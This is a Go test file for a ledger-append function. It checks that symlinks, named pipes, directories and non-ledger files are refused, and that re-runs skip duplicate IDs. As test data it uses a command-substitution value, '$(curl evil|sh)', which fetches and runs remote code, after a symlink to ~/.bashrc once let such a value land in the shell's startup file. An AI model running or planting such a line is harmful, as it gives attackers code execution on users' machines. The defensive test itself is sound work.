package ledger_test

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sweeptune/sweeptune/planner/ledger"
)

// A checkout shipped "ledger.jsonl -> ~/.bashrc": the prediction (a model
// name holding $(…)) was appended to the shell's rc file. A link, a named
// pipe (which used to block forever) and a file that is not a ledger are
// refused now, and the file they name is untouched.
func TestAppendRefusesWhatIsNotALedger(t *testing.T) {
	r, _ := predict7P(t)
	r.Curve.Model = "$(curl evil|sh)"
	r.Seal()
	dir := t.TempDir()
	rc := filepath.Join(dir, ".bashrc")
	rcBody := "export PATH=/usr/bin\n"
	os.WriteFile(rc, []byte(rcBody), 0o644)
	link := filepath.Join(dir, "ledger.jsonl")
	if err := os.Symlink(rc, link); err != nil {
		t.Skip(err)
	}
	notes := filepath.Join(dir, "notes.jsonl")
	os.WriteFile(notes, []byte("my notes, not a ledger\n"), 0o644)
	fifo := filepath.Join(dir, "fifo.jsonl")
	fifoErr := syscall.Mkfifo(fifo, 0o644)
	for _, c := range []struct{ path, want string }{
		{link, "a symbolic link"},
		{notes, "its first line is not a ledger record"},
		{fifo, "a named pipe"},
		{dir, "a directory"},
	} {
		if c.path == fifo && fifoErr != nil {
			continue
		}
		done := make(chan error, 1)
		go func() { done <- ledger.Append(c.path, r) }()
		select {
		case err := <-done:
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("%s: err %v, want %q", filepath.Base(c.path), err, c.want)
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("%s: the append blocked", filepath.Base(c.path))
		}
	}
	if b, _ := os.ReadFile(rc); string(b) != rcBody {
		t.Errorf("the rc file now holds %q", b)
	}
	if b, _ := os.ReadFile(notes); string(b) != "my notes, not a ledger\n" {
		t.Errorf("the notes now hold %q", b)
	}
}

// A re-run recording the same predictions skips the IDs already present
// and says which.
func TestAppendSkipsIDsAlreadyPresent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ledger.jsonl")
	r, _ := predict7P(t)
	r2 := r
	r2.Label = "other"
	r2.Seal()
	if skipped, err := ledger.AppendNew(path, r); err != nil || len(skipped) != 0 {
		t.Fatalf("first append: skipped %v, err %v", skipped, err)
	}
	skipped, err := ledger.AppendNew(path, r, r2)
	if err != nil || len(skipped) != 1 || skipped[0] != r.ID {
		t.Fatalf("re-run: skipped %v, err %v; want [%s]", skipped, err, r.ID)
	}
	res, _ := ledger.Read(path)
	if len(res.Records) != 2 || res.Records[0].ID != r.ID || res.Records[1].ID != r2.ID {
		t.Errorf("ledger holds %d records", len(res.Records))
	}
}
